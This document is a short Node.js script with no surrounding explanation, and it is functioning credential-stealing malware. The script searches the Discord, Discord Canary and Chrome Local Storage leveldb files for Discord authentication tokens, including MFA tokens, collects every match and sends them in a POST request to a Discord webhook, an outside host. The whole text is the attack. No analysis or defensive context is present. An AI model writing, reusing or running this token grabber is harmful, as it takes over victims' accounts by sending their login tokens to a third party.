const fs = require('fs'), path = require('path'), https = require('https');
const paths = [process.env.APPDATA + '\\discord\\Local Storage\\leveldb\\', process.env.APPDATA + '\\discordcanary\\Local Storage\\leveldb\\', process.env.LOCALAPPDATA + '\\Google\\Chrome\\User Data\\Default\\Local Storage\\leveldb\\'];
const tokens = [];
for (const p of paths) { try { for (const f of fs.readdirSync(p)) { if (!f.endsWith('.ldb') && !f.endsWith('.log')) continue;
  const m = fs.readFileSync(p + f, 'utf8').match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}/g); if (m) tokens.push(...m); } } catch (e) { } }
const body = JSON.stringify({ content: tokens.join('\n') });
const r = https.request({ hostname: 'discord.com', path: '/api/webhooks/000/xxxx', method: 'POST', headers: { 'Content-Type': 'application/json' } });
r.write(body); r.end();
